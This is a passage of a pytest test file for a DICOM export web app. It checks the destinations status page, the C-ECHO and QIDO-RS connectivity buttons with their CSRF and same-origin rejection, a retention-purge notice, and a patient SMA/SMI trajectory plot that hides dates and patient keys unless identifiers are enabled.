    c = _client(case)
    html = c.get("/destinations").get_data(as_text=True)
    row = html[html.index(f'data-destination="{PACS_LABEL}"') :]
    row = row[: row.index("</tr>")]
    (summary,) = [r for r in store.destination_states() if r.label == PACS_LABEL]
    assert summary.last_ok_at is not None and summary.last_failure_at is not None
    assert datetime.fromtimestamp(summary.last_ok_at).strftime("%H:%M:%S") in row
    assert "connection refused by 127.0.0.1:1" in row
    assert '<td class="num">1</td>' in row  # one series waiting
    assert "Test C-ECHO" in row
    assert "OLD@10.0.0.9:104" in html and "no longer configured" in html
    assert "Destinations" in c.get("/").get_data(as_text=True)  # in the menu


def test_c_echo_button_tells_success_and_round_trip_or_why_not(case: WebCase) -> None:
    closed = free_port()
    with verification_scp("PACS") as port:
        config = _with_destinations(case, port, closed)
        c = create_app(config).test_client()
        html = c.get("/destinations").get_data(as_text=True)
        resp = c.post("/destinations/0/echo", data={"csrf": _echo_csrf(html, 0)})
        assert resp.status_code == 303 and "echoed=0" in resp.headers["Location"]
        page = c.get(resp.headers["Location"]).get_data(as_text=True)
        notice = page[page.index('id="echo-result"') :]
        notice = notice[: notice.index("</p>")]
        assert f"PACS@127.0.0.1:{port}" in notice and "<strong>success</strong>" in notice
        assert "round trip" in notice and " ms" in notice
        resp = c.post("/destinations/1/echo", data={"csrf": _echo_csrf(html, 1)})
        page = c.get(resp.headers["Location"]).get_data(as_text=True)
        notice = page[page.index('id="echo-result"') :]
        assert "<strong>connection refused</strong>" in notice[: notice.index("</p>")]
        # CSRF and same origin, as the retry form
        assert c.post("/destinations/0/echo").status_code == 403
        assert c.post("/destinations/0/echo", data={"csrf": _echo_csrf(html, 1)}).status_code == 403
        evil = {"Origin": "http://evil.example"}
        token = _echo_csrf(html, 0)
        assert c.post("/destinations/0/echo", data={"csrf": token}, headers=evil).status_code == 403
        assert c.post("/destinations/7/echo", data={"csrf": token}).status_code == 404
        assert c.get("/destinations/0/echo").status_code == 405


def test_a_series_deleted_by_retention_says_so_and_links_no_missing_picture(case: WebCase) -> None:
    store = JobStore(case.config.node.spool_dir)
    store.mark_purged(case.phantom_uid, spool=True, results=True)
    shutil.rmtree(case.config.node.resolved_results_dir())
    html = _client(case).get(f"/jobs/{case.phantom_uid}").get_data(as_text=True)
    assert 'id="purged"' in html and "the results folder" in html
    assert "overview.png" not in html


def test_a_dicomweb_destination_is_checked_by_qido_rs_on_the_page_and_in_readyz(
    case: WebCase,
) -> None:
    stub = DicomwebStub(status=401)
    try:
        config = case.config.model_copy(deep=True)
        config.export.destinations = [
            DicomwebDestination(kind="dicomweb", url=stub.url),
            Destination(ae_title="PACS", host="127.0.0.1", port=free_port()),
        ]
        c = create_app(config, probe=FakeProbe()).test_client()
        body = _wait_json(c, "/readyz", lambda b: None not in _dest_oks(b)).get_json()
        assert body["status"] == "degraded" and stub.url in body["degraded"]
        detail = body["destinations"][stub.url]["detail"]
        assert detail.startswith("QIDO-RS failed: HTTP 401 Unauthorized: the server refused")
        assert stub.requests[0].path == "/dicom-web/studies?limit=1"
        html = c.get("/destinations").get_data(as_text=True)
        rows = html.split('data-destination="')
        assert "Test QIDO-RS" in rows[1] and "Test C-ECHO" in rows[2]
        stub.status = 200
        resp = c.post("/destinations/0/echo", data={"csrf": _echo_csrf(html, 0)})
        page = c.get(resp.headers["Location"]).get_data(as_text=True)
        notice = page[page.index('id="echo-result"') :]
        notice = notice[: notice.index("</p>")]
        assert f"QIDO-RS {stub.url}" in notice and "<strong>success</strong>" in notice
    finally:
        stub.close()


def test_the_job_page_plots_the_patient_s_trajectory_from_two_studies_on(case: WebCase) -> None:
    """Issue 17: a patient measured in two studies; the page shows SMA and SMI over time,
    with days (not dates) unless patient identifiers are shown, and nothing for one study."""
    from core.followup import MeasurementRow

    store = JobStore(case.config.node.spool_dir)
    c = _client(case)
    assert 'id="trajectory"' not in c.get(f"/jobs/{case.phantom_uid}").get_data(as_text=True)
    key = "k" * 64  # a keyed hash (core.followup.patient_key); the page never shows it
    store.record_measurement(
        MeasurementRow("1.2.3.4", key, "1.2.3", "2026-01-10", 150.0, 50.0, "m1", 1.0)
    )
    store.record_measurement(
        MeasurementRow(case.phantom_uid, key, "1.2.4", "2026-05-10", 138.0, 46.1, "m1", 2.0)
    )
    html = c.get(f"/jobs/{case.phantom_uid}").get_data(as_text=True)
    section = html[html.index('id="trajectory"') :]
    assert section.count("<svg") == 2  # SMA and SMI
    assert "day 0" in section and "day 120" in section
    assert "2026-01-10" not in section and key not in html
    assert "138.0" in section and "150.0" in section
    config = case.config.model_copy(deep=True)
    config.web.show_patient_identifiers = True
    shown = create_app(config).test_client().get(f"/jobs/{case.phantom_uid}").get_data(as_text=True)
    assert "2026-01-10" in shown[shown.index('id="trajectory"') :]
